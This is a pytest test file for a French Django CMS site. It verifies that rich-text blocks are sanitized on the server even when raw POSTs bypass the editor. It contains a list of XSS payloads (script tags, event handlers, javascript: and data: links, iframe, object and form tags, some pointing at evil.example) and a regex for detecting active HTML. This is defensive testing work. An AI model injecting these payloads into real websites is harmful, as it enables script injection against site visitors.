"""Rich text is cleaned on the server: a raw POST that bypasses the editor leaves nothing active.

The site's only rich text is djangocms-text's TextPlugin (news bodies, house
presentations and every CMS page are placeholders of text blocks; the
models' own text fields are plain text, escaped on output). Its nh3 cleaner
runs on every save (TEXT_HTML_SANITIZE), whatever the browser sent.
"""

import re
from urllib.parse import urlencode

import pytest
from cms.api import add_plugin, create_page
from cms.models import PageContent
from djangocms_text.models import Text
from djangocms_versioning.models import Version

pytestmark = pytest.mark.django_db

PAYLOADS = {
    "script": "<script>alert('script')</script>",
    "script en majuscules": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "onerror": '<img src="x" onerror="alert(\'onerror\')" alt="">',
    "onclick": "<p onclick=\"alert('onclick')\">Cliquez</p>",
    "lien javascript:": "<a href=\"javascript:alert('lien')\">lien</a>",
    "lien javascript: masqué": "<a href=\"jav&#x09;ascript:alert('masque')\">lien</a>",
    "lien data:": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">lien</a>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "svg onload": '<svg onload="alert(\'svg\')"><circle r="4"/></svg>',
    "style avec script": "<style>body{background:url(javascript:alert(1))}</style>",
    "object": '<object data="https://evil.example/x.swf"></object>',
    "formulaire": '<form action="https://evil.example/"><input name="mdp"></form>',
}
ACTIVE = re.compile(
    r"<script|<iframe|<object|<embed|<form|<style|<svg|\son\w+\s*=|javascript:|data:text|alert\(",
    re.IGNORECASE,
)


def body_with(payload):
    return f"<p>Bonjour les voisins.</p>{payload}<p>Fin du texte.</p>"


@pytest.fixture
def text_page(admin_user):
    page = create_page(
        "Accueil test", "pages/one_column.html", "fr", slug="texte", created_by=admin_user
    )
    content = PageContent.admin_manager.get(page=page, language="fr")
    placeholder = content.get_placeholders().get(slot="content")
    plugin = add_plugin(placeholder, "TextPlugin", "fr", body="<p>Ancien texte.</p>")
    return content, placeholder, plugin


def assert_inert(html):
    assert "Bonjour les voisins." in html and "Fin du texte." in html
    found = ACTIVE.search(html)
    assert not found, html[max(0, found.start() - 80) : found.end() + 80]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_raw_post_to_the_text_block_edit_endpoint_stores_inert_html(
    client, admin_user, text_page, payload
):
    content, _, plugin = text_page
    client.force_login(admin_user)

    response = client.post(
        f"/admin/cms/placeholder/edit-plugin/{plugin.pk}/", {"body": body_with(PAYLOADS[payload])}
    )

    assert response.status_code == 200, response.content.decode()[:2000]
    stored = Text.objects.get(pk=plugin.pk).body
    assert_inert(stored)
    Version.objects.get_for_content(content).publish(admin_user)
    page_html = client.get("/texte/").content.decode()
    main = page_html[page_html.index("<main") :]
    assert_inert(main[: main.index("</main>")])


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_raw_post_to_the_text_block_add_endpoint_stores_inert_html(
    client, admin_user, text_page, payload
):
    _, placeholder, _ = text_page
    client.force_login(admin_user)
    url = "/admin/cms/placeholder/add-plugin/?" + urlencode(
        {
            "placeholder_id": placeholder.pk,
            "plugin_type": "TextPlugin",
            "plugin_language": "fr",
            "plugin_position": 2,
        }
    )

    response = client.post(url, {"body": body_with(PAYLOADS[payload])})

    assert response.status_code == 200, response.content.decode()[:2000]
    assert_inert(Text.objects.order_by("-pk").first().body)


def test_text_saved_by_code_is_cleaned_too(text_page):
    _, placeholder, _ = text_page
    text = add_plugin(placeholder, "TextPlugin", "fr", body=body_with("".join(PAYLOADS.values())))

    assert_inert(Text.objects.get(pk=text.pk).body)


def test_harmless_formatting_survives(client, admin_user, text_page):
    _, _, plugin = text_page
    client.force_login(admin_user)
    body = (
        '<h2>Programme</h2><p><strong>Samedi</strong> : <a href="https://www.romans.fr/">'
        'la ville</a>, <a href="mailto:accueil@example.org">écrire</a>.</p><ul><li>un</li></ul>'
    )

    client.post(f"/admin/cms/placeholder/edit-plugin/{plugin.pk}/", {"body": body})

    stored = Text.objects.get(pk=plugin.pk).body
    assert "<h2>Programme</h2>" in stored and "<strong>Samedi</strong>" in stored
    assert (
        'href="https://www.romans.fr/"' in stored and 'href="mailto:accueil@example.org"' in stored
    )
    assert "<li>un</li>" in stored
